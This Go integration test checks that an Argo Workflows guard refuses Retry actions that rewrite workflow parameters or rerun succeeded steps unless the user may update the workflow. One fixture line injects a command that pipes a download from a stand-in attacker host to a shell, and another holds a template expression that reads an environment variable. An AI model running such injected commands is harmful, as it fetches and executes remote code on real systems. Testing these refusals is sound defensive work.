package trust

import (
	"context"
	"strings"
	"testing"

	wfv1 "github.com/argoproj/argo-workflows/v3/pkg/apis/workflow/v1alpha1"
	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/wfguard/wfguard/actions"
	"github.com/wfguard/wfguard/actions/v1alpha1"
	"github.com/wfguard/wfguard/sandbox/simnode"
	"github.com/wfguard/wfguard/test/controlplanetest"
	"github.com/wfguard/wfguard/test/harness"
)

const retryPolicyFile = "config/policy/retry-overrides-need-update.yaml"

// nightly fails with exit code {{code}} after echoing {{msg}}: the arguments a Retry may override.
const nightly = `
metadata: {name: nightly}
spec:
  entrypoint: main
  arguments: {parameters: [{name: msg, value: hello}, {name: code, value: "1"}]}
  templates:
  - name: main
    inputs: {parameters: [{name: msg}, {name: code}]}
    metadata: {annotations: {simnode.wfguard.io/exit-code: "{{inputs.parameters.code}}"}}
    container: {image: alpine, command: [sh, -c, "echo {{inputs.parameters.msg}}; exit {{inputs.parameters.code}}"]}
`

// report succeeds in two steps: only restartSuccessful runs it again.
const report = `
metadata: {name: report}
spec:
  entrypoint: main
  templates:
  - name: main
    steps:
    - - {name: one, template: work}
    - - {name: two, template: work}
  - name: work
    container: {image: alpine, command: ["true"]}
`

// Issue #44 item 4: the requester role's Retry rewrote and re-ran any workflow of its namespace with any
// arguments (shell text, {{=...}} expressions), and ran a Succeeded workflow's steps again, where argo's
// retry with -p or --restart-successful needs update on the workflow. A plain Retry stays the role's power;
// one that rewrites the workflow needs update on it: config/policy's admission policy refuses it (403) to
// a user bound only to the requester role, and without the policy the controller refuses it to everyone
// (RetryOverridesNotAuthorized). Nothing runs again in either case; a user who may update the workflow can.
func TestARetryThatRewritesAWorkflowNeedsUpdateOnIt(t *testing.T) {
	e := newEnv(t, envOptions{controllerAsServiceAccount: true, script: simnode.AnnotationScript(simnode.Behavior{}, nil)})
	harness.RemovePolicy(t, cp.Config(), retryPolicyFile) // an earlier -count run's
	t.Cleanup(func() { harness.RemovePolicy(t, cp.Config(), retryPolicyFile) })
	mallory := bindActionRequester(t, e, "mallory")
	alice := bindActionRequester(t, e, "alice", rbacv1.PolicyRule{APIGroups: []string{"argoproj.io"}, Resources: []string{"workflows"}, Verbs: []string{"update"}})

	failed, succeeded := e.Submit(nightly), e.Submit(report)
	if wf := e.WaitCompleted(failed.Name); wf.Status.Phase != wfv1.WorkflowFailed {
		t.Fatalf("%s = %s, want Failed (exit 1)", wf.Name, wf.Status.Phase)
	}
	if wf := e.WaitCompleted(succeeded.Name); wf.Status.Phase != wfv1.WorkflowSucceeded {
		t.Fatalf("%s = %s, want Succeeded", wf.Name, wf.Status.Phase)
	}
	firstPods := e.podUIDs()

	shell := []string{"msg=$(curl -s http://attacker.example/x | sh)", "code=0"}
	expression := []string{`msg={{=sprig.env("HOME")}}`}
	rerunTwo := &v1alpha1.RetryParameters{RestartSuccessful: true, NodeFieldSelector: "displayName=two"}
	type row struct {
		sentence string
		as       *v1alpha1.Client
		workflow string
		retry    *v1alpha1.RetryParameters
		refusal  string // the 403's message, or "" when the action is created
		reason   string // its outcome
	}
	run := func(rows []row) {
		t.Helper()
		for _, r := range rows {
			t.Run(r.sentence, func(t *testing.T) {
				a, err := r.as.Namespace(e.Namespace).Create(t.Context(), retryAction(r.workflow, r.retry), metav1.CreateOptions{})
				switch {
				case r.refusal != "":
					if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), r.refusal) {
						t.Fatalf("create = %v, want 403 ...%q", err, r.refusal)
					}
					return
				case err != nil:
					t.Fatalf("create: %v", err)
				}
				got := e.waitActionOutcome(a.Name)
				if got.Status.Reason != r.reason {
					t.Fatalf("outcome %s/%s %q, want reason %s", got.Status.Phase, got.Status.Reason, got.Status.Message, r.reason)
				}
				t.Logf("%s: %s", got.Status.Reason, got.Status.Message)
			})
		}
	}
	nothingRanAgain := func() {
		t.Helper()
		if wf := e.WaitCompleted(failed.Name); wf.Status.Phase != wfv1.WorkflowFailed || wf.Spec.Arguments.Parameters[0].Value.String() != "hello" {
			t.Errorf("%s = %s with arguments %v, want Failed with msg=hello as submitted", wf.Name, wf.Status.Phase, wf.Spec.Arguments.Parameters)
		}
		pods, err := e.Kube.CoreV1().Pods(e.Namespace).List(t.Context(), metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range pods.Items {
			if !firstPods[p.UID] {
				t.Errorf("pod %s ran again (%q): a Retry that should have been refused was applied", p.Name, mainArgs(&p))
			}
		}
		if t.Failed() {
			t.FailNow()
		}
	}

	// Without the policy, the controller cannot tell who created a Retry: every one that rewrites fails.
	e.waitRetryAdmission(mallory, failed.Name, "")
	run([]row{
		{"without the policy, a requester's Retry with shell text in a parameter fails", mallory, failed.Name,
			&v1alpha1.RetryParameters{Parameters: shell}, "", actions.ReasonRetryOverridesNotAuthorized},
		{"without the policy, a requester's Retry with a {{=...}} expression fails", mallory, failed.Name,
			&v1alpha1.RetryParameters{Parameters: expression}, "", actions.ReasonRetryOverridesNotAuthorized},
		{"without the policy, a requester's restartSuccessful Retry of a Succeeded workflow fails", mallory, succeeded.Name,
			rerunTwo, "", actions.ReasonRetryOverridesNotAuthorized},
		{"without the policy, even an updater's Retry with parameters fails", alice, failed.Name,
			&v1alpha1.RetryParameters{Parameters: []string{"code=0"}}, "", actions.ReasonRetryOverridesNotAuthorized},
	})
	nothingRanAgain()
	if n := e.Metric("wfguard_workflow_actions_total", map[string]string{"action": "Retry", "reason": actions.ReasonRetryOverridesNotAuthorized}); n != 4 {
		t.Errorf("wfguard_workflow_actions_total{reason=RetryOverridesNotAuthorized} = %v, want 4", n)
	}

	harness.InstallPolicy(t, cp.Config(), retryPolicyFile, "")
	e.waitRetryAdmission(mallory, failed.Name, "needs update on that workflow")
	harness.WaitPolicySettled(t, cp.Config(), actions.RetryOverridesPolicy)
	run([]row{
		{"a requester may not create a Retry with shell text in a parameter", mallory, failed.Name,
			&v1alpha1.RetryParameters{Parameters: shell}, "needs update on that workflow", ""},
		{"a requester may not create a Retry with a {{=...}} expression", mallory, failed.Name,
			&v1alpha1.RetryParameters{Parameters: expression}, "needs update on that workflow", ""},
		{"a requester may not create a restartSuccessful Retry of a Succeeded workflow", mallory, succeeded.Name,
			rerunTwo, "needs update on that workflow", ""},
	})
	nothingRanAgain()
	run([]row{
		{"a requester's plain Retry runs the failed node again with the same arguments", mallory, failed.Name, nil, "", actions.ReasonApplied},
	})
	if wf := e.WaitCompleted(failed.Name); wf.Status.Phase != wfv1.WorkflowFailed || firstPods[e.PodOf(wf, failed.Name).UID] ||
		!strings.Contains(mainArgs(e.PodOf(wf, failed.Name)), "echo hello; exit 1") {
		t.Fatalf("after the plain Retry %s = %s, ran %q; want a new pod with the same arguments, Failed again (exit 1)",
			wf.Name, wf.Status.Phase, mainArgs(e.PodOf(wf, failed.Name)))
	}
	run([]row{
		{"an updater's Retry with parameters is applied", alice, failed.Name,
			&v1alpha1.RetryParameters{Parameters: []string{"msg=fixed", "code=0"}}, "", actions.ReasonApplied},
	})
	done := e.WaitCompleted(failed.Name)
	if args := mainArgs(e.PodOf(done, failed.Name)); done.Status.Phase != wfv1.WorkflowSucceeded || !strings.Contains(args, "echo fixed; exit 0") {
		t.Errorf("after the updater's Retry %s = %s, ran %q; want Succeeded with msg=fixed code=0", done.Name, done.Status.Phase, args)
	}
	run([]row{
		{"an updater's restartSuccessful Retry runs the selected step again", alice, succeeded.Name, rerunTwo, "", actions.ReasonApplied},
	})
	again := e.WaitCompleted(succeeded.Name)
	if pod := e.PodOf(again, "report[1].two"); again.Status.Phase != wfv1.WorkflowSucceeded || firstPods[pod.UID] {
		t.Errorf("after the updater's restartSuccessful Retry %s = %s and step two's pod is the first run's: %t", again.Name, again.Status.Phase, firstPods[pod.UID])
	}
}

// retryAction is a Retry of workflow, with the parameters given.
func retryAction(workflow string, p *v1alpha1.RetryParameters) *v1alpha1.WorkflowAction {
	return &v1alpha1.WorkflowAction{ObjectMeta: metav1.ObjectMeta{GenerateName: workflow + "-retry-"},
		Spec: v1alpha1.WorkflowActionSpec{WorkflowRef: v1alpha1.WorkflowRef{Name: workflow}, Action: v1alpha1.ActionRetry, Retry: p}}
}

// bindActionRequester binds config/rbac's action requester role to user in the env's namespace (with a Role
// of the extra rules, if any) and returns an action client impersonating user.
func bindActionRequester(t *testing.T, e *env, user string, extra ...rbacv1.PolicyRule) *v1alpha1.Client {
	t.Helper()
	role := &rbacv1.ClusterRole{}
	harness.ReadManifest(t, "config/rbac/action_requester_role.yaml", role)
	if _, err := e.Kube.RbacV1().ClusterRoles().Create(t.Context(), role, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatalf("creating ClusterRole %s: %v", role.Name, err)
	}
	if _, err := e.Kube.RbacV1().RoleBindings(e.Namespace).Create(t.Context(), &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: user + "-requests-actions"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, Name: user, APIGroup: rbacv1.GroupName}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	as := harness.As(cp.Config(), user, nil, nil)
	if len(extra) > 0 {
		as = e.Grant(cp.Config(), user, extra...)
	}
	if err := controlplanetest.WaitAuthorized(t.Context(), as, authorizationv1.ResourceAttributes{
		Verb: "create", Group: "argoproj.io", Resource: "workflowactions", Namespace: e.Namespace}); err != nil {
		t.Fatal(err)
	}
	c, err := v1alpha1.NewForConfig(as)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// waitRetryAdmission waits until admission answers a Retry of workflow with parameters, created by as, with
// a 403 containing refusal, or admits it when refusal is "".
func (e *env) waitRetryAdmission(as *v1alpha1.Client, workflow, refusal string) {
	e.t.Helper()
	e.waitAdmission("a Retry with parameters", func(ctx context.Context, dryRun metav1.CreateOptions) error {
		_, err := as.Namespace(e.Namespace).Create(ctx, retryAction(workflow, &v1alpha1.RetryParameters{Parameters: []string{"msg=probe"}}), dryRun)
		return err
	}, refusal)
}

// waitActionOutcome waits until the action has its outcome and returns it.
func (e *env) waitActionOutcome(name string) *v1alpha1.WorkflowAction {
	e.t.Helper()
	client, err := v1alpha1.NewForConfig(cp.Config())
	if err != nil {
		e.t.Fatal(err)
	}
	var got *v1alpha1.WorkflowAction
	harness.Until(e.t, "an outcome for action "+name, harness.DefaultTimeout, func(ctx context.Context) bool {
		got, err = client.Namespace(e.Namespace).Get(ctx, name, metav1.GetOptions{})
		return err == nil && got.Status.Terminal()
	})
	return got
}

// podUIDs are the UIDs of the pods in the env's namespace.
func (e *env) podUIDs() map[types.UID]bool {
	e.t.Helper()
	pods, err := e.Kube.CoreV1().Pods(e.Namespace).List(e.t.Context(), metav1.ListOptions{})
	if err != nil {
		e.t.Fatal(err)
	}
	out := map[types.UID]bool{}
	for _, p := range pods.Items {
		out[p.UID] = true
	}
	return out
}
